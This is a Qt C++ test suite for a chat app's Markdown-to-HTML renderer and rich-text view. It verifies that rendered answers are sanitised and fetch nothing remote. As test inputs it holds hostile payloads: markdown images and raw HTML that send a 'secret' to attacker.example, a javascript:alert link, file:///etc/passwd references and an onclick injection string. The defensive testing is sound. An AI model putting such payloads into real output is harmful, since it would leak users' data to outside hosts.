#include "chat/markdownrenderer.h"

#include <QQmlContext>
#include <QQuickItem>
#include <QQuickView>
#include <QTcpServer>
#include <QTcpSocket>
#include <QtTest>

namespace {

// Counts the HTTP requests that reach it and answers each with 404.
class RequestRecorder : public QObject
{
public:
    RequestRecorder()
    {
        listener.listen(QHostAddress::LocalHost, 0);
        connect(&listener, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = listener.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QList<QByteArray> line = socket->readLine().split(' ');
                    paths << QString::fromLatin1(line.value(1));
                    socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n"
                                  "Connection: close\r\n\r\n");
                    socket->disconnectFromHost();
                });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }

    QString url(const QString& path) const
    {
        return QStringLiteral("http://127.0.0.1:%1%2").arg(listener.serverPort()).arg(path);
    }

    QTcpServer listener;
    QStringList paths;
};

} // namespace

class TestMarkdownRenderer : public QObject
{
    Q_OBJECT

private slots:
    void rendersSafeHtml_data();
    void rendersSafeHtml();
    void mendsWhatTheImportGetsWrong_data();
    void mendsWhatTheImportGetsWrong();
    void richTextViewFetchesNothingFromAnAnswer();
};

void TestMarkdownRenderer::rendersSafeHtml_data()
{
    QTest::addColumn<QString>("markdown");
    QTest::addColumn<QStringList>("present");
    QTest::addColumn<QStringList>("absent");

    QTest::newRow("bold") << QStringLiteral("one **bold** word")
                          << QStringList {QStringLiteral("font-weight:600;\">bold</span>")}
                          << QStringList {QStringLiteral("<body"), QStringLiteral("</body>")};
    QTest::newRow("remote image") << QStringLiteral(
        "look ![the secret](https://attacker.example/?q=secret) here")
                                  << QStringList {QStringLiteral("[the secret]")}
                                  << QStringList {QStringLiteral("<img"),
                                                  QStringLiteral("attacker.example")};
    QTest::newRow("image without alt")
        << QStringLiteral("![](http://attacker.example/pixel.png)") << QStringList {}
        << QStringList {QStringLiteral("<img"), QStringLiteral("attacker.example")};
    QTest::newRow("local file image")
        << QStringLiteral("![key](file:///etc/passwd)") << QStringList {QStringLiteral("[key]")}
        << QStringList {QStringLiteral("<img")};
    QTest::newRow("own resource image")
        << QStringLiteral("![logo](qrc:/Image/logo.png)")
        << QStringList {QStringLiteral("<img src=\"qrc:/Image/logo.png\"")} << QStringList {};
    QTest::newRow("raw html")
        << QStringLiteral("text <img src=\"https://attacker.example/raw.png\"> <b>x</b> <a "
                          "href=\"http://a.example\">a</a>")
        << QStringList {QStringLiteral("&lt;img"), QStringLiteral("font-weight:600;\">x</span>"),
                        QStringLiteral("&lt;a href")}
        << QStringList {QStringLiteral("<img"), QStringLiteral("<b>"), QStringLiteral("<a ")};
    QTest::newRow("html block") << QStringLiteral(
        "<div><img src=\"https://attacker.example/block.png\"></div>")
                                << QStringList {QStringLiteral("&lt;div&gt;")}
                                << QStringList {QStringLiteral("<img")};
    QTest::newRow("web link") << QStringLiteral("[docs](https://orvik.example/help)")
                              << QStringList {QStringLiteral("href=\"https://orvik.example/help\"")}
                              << QStringList {};
    QTest::newRow("mail link") << QStringLiteral("[mail](mailto:help@orvik.example)")
                               << QStringList {QStringLiteral("href=\"mailto:help@orvik.example\"")}
                               << QStringList {};
    QTest::newRow("script link") << QStringLiteral("[click](javascript:alert(1)) now")
                                 << QStringList {QStringLiteral("click")}
                                 << QStringList {QStringLiteral("href"),
                                                 QStringLiteral("javascript")};
    QTest::newRow("file link") << QStringLiteral("[open](file:///etc/passwd)")
                               << QStringList {QStringLiteral("open")}
                               << QStringList {QStringLiteral("href")};
}

void TestMarkdownRenderer::rendersSafeHtml()
{
    QFETCH(QString, markdown);
    QFETCH(QStringList, present);
    QFETCH(QStringList, absent);
    const QString html = MarkdownRenderer::toHtml(markdown);
    for (const QString& text : present)
        QVERIFY2(html.contains(text), qPrintable(text + QStringLiteral(" missing in ") + html));
    for (const QString& text : absent)
        QVERIFY2(!html.contains(text), qPrintable(text + QStringLiteral(" found in ") + html));
    QVERIFY(MarkdownRenderer::toHtml(QString()).isEmpty());
}

void TestMarkdownRenderer::mendsWhatTheImportGetsWrong_data()
{
    QTest::addColumn<QString>("markdown");
    QTest::addColumn<QStringList>("present");
    QTest::addColumn<QStringList>("absent");

    QTest::newRow("no bold after a nested list")
        << QStringLiteral("1. **Step 1**: press\n   - check\n2. **Step 2**: again\n3. plain\n")
        << QStringList {QStringLiteral(">plain</li>")}
        << QStringList {QStringLiteral("<li style=\" font-weight:600;\"")};
    QTest::newRow("code block")
        << QStringLiteral("Intro.\n\n```Python\nx = 1\n\ny = 2\n```\n\nafter")
        << QStringList {QStringLiteral("<pre class=\"code language-python\""),
                        QStringLiteral("font-family:'monospace';\">x = 1</span></pre>\n<pre"),
                        QStringLiteral("y = 2</span></pre>\n<p")}
        << QStringList {
               QStringLiteral("<p style=\" margin-top:0px; margin-bottom:0px; margin-left:0px; "
                              "margin-right:0px; -qt-block-indent:0; text-indent:0px;\">x = 1")};
    QTest::newRow("code without a language or with an odd one")
        << QStringLiteral("```\na\n```\n\n~~~x\\\" onclick=\"y\nb\n~~~\n")
        << QStringList {QStringLiteral("<pre class=\"code\" style=")}
        << QStringList {QStringLiteral("onclick"), QStringLiteral("language-")};
    QTest::newRow("code span") << QStringLiteral("use `<b>x</b>` here")
                               << QStringList {QStringLiteral(
                                      "'monospace';\">&lt;b&gt;x&lt;/b&gt;</span>")}
                               << QStringList {};
    QTest::newRow("table header")
        << QStringLiteral("```\nc\n```\n| L | R |\n|:--|--:|\n| a | b |\n")
        << QStringList {QStringLiteral("font-weight:600;\">L</span>"),
                        QStringLiteral(
                            "<p align=\"right\" style=\" margin-top:0px; margin-bottom:0px;")}
        << QStringList {
               QStringLiteral("margin-top:8px; margin-bottom:8px; margin-left:0px; "
                              "margin-right:0px; -qt-block-indent:0; text-indent:0px;\">L")};
    QTest::newRow("inline html") << QStringLiteral(
        "a<br>b <B>bold</B> <i>it</i> H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd> <em>e</em> "
        "<strong>s</strong>")
                                 << QStringList {QStringLiteral("a<br />b"),
                                                 QStringLiteral("font-weight:600;\">bold</span>"),
                                                 QStringLiteral("font-style:italic;\">it</span>"),
                                                 QStringLiteral("vertical-align:sub;\">2</span>"),
                                                 QStringLiteral("vertical-align:super;\">2</span>"),
                                                 QStringLiteral("'monospace';\">Ctrl</span>"),
                                                 QStringLiteral("font-style:italic;\">e</span>"),
                                                 QStringLiteral("font-weight:600;\">s</span>")}
                                 << QStringList {QStringLiteral("&lt;")};
    QTest::newRow("unpaired and other tags stay text")
        << QStringLiteral("<b>open <span>s</span> close</i> <b class=\"x\">c")
        << QStringList {QStringLiteral("&lt;b&gt;open &lt;span&gt;s&lt;/span&gt;"),
                        QStringLiteral("close&lt;/i&gt;"), QStringLiteral("&lt;b class=")}
        << QStringList {QStringLiteral("font-weight")};
    QTest::newRow("line break in a table cell")
        << QStringLiteral("| a |\n|---|\n| one<br>two |\n")
        << QStringList {QStringLiteral("one<br />two")} << QStringList {QStringLiteral("&lt;br")};
}

void TestMarkdownRenderer::mendsWhatTheImportGetsWrong()
{
    rendersSafeHtml();
}

// The chat view shows answers as rich text, and rich text in QML loads remote images through
// the engine's network access. An answer must not be able to make the app fetch anything.
void TestMarkdownRenderer::richTextViewFetchesNothingFromAnAnswer()
{
    RequestRecorder recorder;
    QVERIFY(recorder.listener.isListening());
    const QString answer =
        QStringLiteral("Here ![x](%1) and <img src=\"%2\"> and [y](%3)\n\n<img src=\"%4\">")
            .arg(recorder.url(QStringLiteral("/markdown-image.png?q=secret")),
                 recorder.url(QStringLiteral("/inline-html.png")),
                 recorder.url(QStringLiteral("/link")),
                 recorder.url(QStringLiteral("/block-html.png")));
    // A raw image after the answer proves that this view does fetch what it is given.
    const QString control =
        QStringLiteral("<img src=\"%1\">").arg(recorder.url(QStringLiteral("/control.png")));

    QQuickView view;
    view.rootContext()->setContextProperty(QStringLiteral("answerHtml"),
                                           MarkdownRenderer::toHtml(answer) + control);
    view.setSource(QUrl(QStringLiteral("data:text/plain,")
                        + QUrl::toPercentEncoding(QStringLiteral(
                            "import QtQuick 2.15\n"
                            "TextEdit { width: 500; height: 300; textFormat: TextEdit.RichText;"
                            " readOnly: true; text: answerHtml }"))));
    QCOMPARE(view.status(), QQuickView::Ready);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));

    QTRY_VERIFY_WITH_TIMEOUT(recorder.paths.contains(QStringLiteral("/control.png")), 10000);
    QTest::qWait(200); // let anything requested alongside the control arrive too
    QCOMPARE(recorder.paths, QStringList {QStringLiteral("/control.png")});
}

QTEST_MAIN(TestMarkdownRenderer)
#include "tst_markdownrenderer.moc"
